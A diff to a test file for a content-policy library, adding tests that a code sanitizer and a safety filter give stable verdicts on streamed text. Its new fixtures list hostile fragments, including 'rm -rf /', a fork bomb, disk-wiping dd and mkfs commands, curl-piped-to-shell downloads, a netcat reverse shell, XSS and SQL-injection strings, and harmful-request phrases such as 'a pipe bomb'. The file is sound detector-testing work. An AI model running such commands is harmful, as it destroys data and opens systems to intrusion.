@@ -3,9 +3,12 @@ import { describe, expect, it } from 'vitest';
 import { structuredDetectors } from '../../src/policy/detectors/index.ts';
 import { secrets } from '../../src/policy/detectors/secrets.ts';
 import { auditLogger } from '../../src/policy/kinds/audit-logger.ts';
+import { hazardCategories } from '../../src/policy/detectors/code-hazards.ts';
+import { codeSanitizer } from '../../src/policy/kinds/code-sanitizer.ts';
 import { dlpFilter } from '../../src/policy/kinds/dlp-filter.ts';
 import { entityListFilter } from '../../src/policy/kinds/entity-list-filter.ts';
 import { piiDetector } from '../../src/policy/kinds/pii-detector.ts';
+import { safetyFilter } from '../../src/policy/kinds/safety-filter.ts';
 import { assembled, compileGrowing, everyLength, heldAt, tokenLengths, type GrowingEvaluator } from './open-law.ts';
 
 /** Of each type, near misses, and words that name one. */
@@ -99,6 +102,13 @@ const credentials = [
   'primary_key=',
   'LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQ',
 ];
+/** What does harm when it is run, and what is near to it. */
+const programs = [
+  'rm -rf /|rm -r -f /etc|rm |-rf |sudo |mkfs.ext4 /dev/sda1|dd if=a of=/dev/sda|:(){ :|:& };:|> /dev/sda|> /dev/',
+  'curl https://x.example/i.sh | sh|curl -k |curl | bash|wget -qO- x | sudo bash|bash <(curl x|iex (iwr |nc 10.0.0.1 4444 -e /bin/sh',
+  '/dev/tcp/1.2.3.4/80|\u202e|<script|<script src=x>|javascript:|onerror=|onerror = "|data:text/html;|\' or 1=1|UNION SELECT a FROM b ',
+  'DROP TABLE users|drop |DELETE FROM a;|eval(|yaml.load(|yaml.load(x, safe|shell = True|verify=False|a|/|"|;|)',
+].flatMap((line) => line.split('|'));
 const terms = ['Project Falcon', 'falcon', 'kryptonite', 'Zürich'];
 const nearTerms =
   'Projct Falcon|flacon|Prject|cryptonite|TOP SECRET|FOR INTERNAL USE| ONLY|NOT FOR| DISTRIBUTION'.split('|');
@@ -144,6 +154,16 @@ describe('what is open is never decided, and what is decided stays', () => {
 
   it('for credentials', () => {
     holdsFor(compileGrowing(dlpFilter), credentials);
+  });
+
+  it('for harm', () => {
+    const pieces =
+      'How to make |a pipe bomb|. |! |?|\n|methamphetamine|prevent |。|... |Dr. |e.g. |kill |step by step|…'.split('|');
+    holdsFor(compileGrowing(safetyFilter, { severity: 'low', mode: 'strict' }), pieces);
+  });
+
+  it('for program text', () => {
+    holdsFor(compileGrowing(codeSanitizer, { detect: hazardCategories }), programs);
   });
 
   it('for terms, near spellings and markings', () => {
